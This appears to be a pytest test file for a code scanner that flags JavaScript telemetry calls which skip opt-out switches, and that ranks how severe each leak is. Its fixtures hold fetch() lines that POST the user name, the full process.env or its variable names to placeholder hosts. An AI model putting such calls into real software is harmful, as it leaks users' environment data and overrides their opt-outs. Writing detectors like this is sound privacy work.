"""Payloads that go around a switch which others to the same host ask."""

from __future__ import annotations

from pathlib import Path

import pytest

from analyzer import scan

RESPECTING = """
const settings = require("settings-store");
async function track() {
  if (CONDITION) return;
  await fetch("https://t.example/v1/events", {method: "POST", body: process.env.USER});
}
track();
"""


def _messages(tmp_path: Path, text: str) -> dict[str, str]:
    """The messages of payload findings by the last part of their endpoint."""
    path = tmp_path / "a.js"
    path.write_text(text)
    findings = scan(path).to_dict()["findings"]
    return {each["sink"]["endpoint"].rpartition("/")[2]: each["message"] for each in findings if each["category"] == "payload"}


@pytest.mark.parametrize(
    ("condition", "name"),
    [
        ("process.env.DO_NOT_TRACK", "DO_NOT_TRACK"),
        ("process.env.CI || process.env.ACME_TELEMETRY_DISABLED", "ACME_TELEMETRY_DISABLED"),
        ("!settings.telemetry.enabled", "telemetry.enabled"),
        ("settings.get().opted_out || settings.isOptedOut", "isOptedOut, opted_out"),
        ("!settings.telemetryEnabled()", "telemetryEnabled"),
    ],
)
def test_a_payload_that_does_not_ask_the_switch_is_marked(tmp_path: Path, condition: str, name: str) -> None:
    around = 'fetch("https://t.example/v1/around", {method: "POST", body: process.env.USER});'
    found = _messages(tmp_path, RESPECTING.replace("CONDITION", condition) + around)
    assert found["around"].endswith(f"this way does not ask {name}, others to this host do")
    assert "does not ask" not in found["events"]


def test_another_host_has_switches_of_its_own(tmp_path: Path) -> None:
    elsewhere = 'fetch("https://u.example/v1/around", {method: "POST", body: process.env.USER});'
    found = _messages(tmp_path, RESPECTING.replace("CONDITION", "process.env.DO_NOT_TRACK") + elsewhere)
    assert "does not ask" not in found["around"]


def test_a_condition_that_is_no_switch_marks_nothing(tmp_path: Path) -> None:
    around = 'fetch("https://t.example/v1/around", {method: "POST", body: process.env.USER});'
    found = _messages(tmp_path, RESPECTING.replace("CONDITION", "process.env.ACME_COLOR") + around)
    assert "does not ask" not in found["around"]


def test_a_single_bit_or_a_name_is_less_severe_than_the_value(tmp_path: Path) -> None:
    path = tmp_path / "a.js"
    path.write_text(
        'fetch("https://t.example/v1/value", {method: "POST", body: process.env.USER});\n'
        'fetch("https://t.example/v1/bit", {method: "POST", body: String(!!process.env.USER)});\n'
        'fetch("https://t.example/v1/all", {method: "POST", body: JSON.stringify(process.env)});\n'
        'fetch("https://t.example/v1/names", {method: "POST", body: Object.keys(process.env).join()});\n'
    )
    findings = scan(path).to_dict()["findings"]
    found = {each["sink"]["endpoint"].rpartition("/")[2]: (each["severity"], each["transforms"]) for each in findings}
    assert found == {"value": ("high", []), "bit": ("medium", ["boolean"]), "all": ("medium", []), "names": ("low", ["name"])}
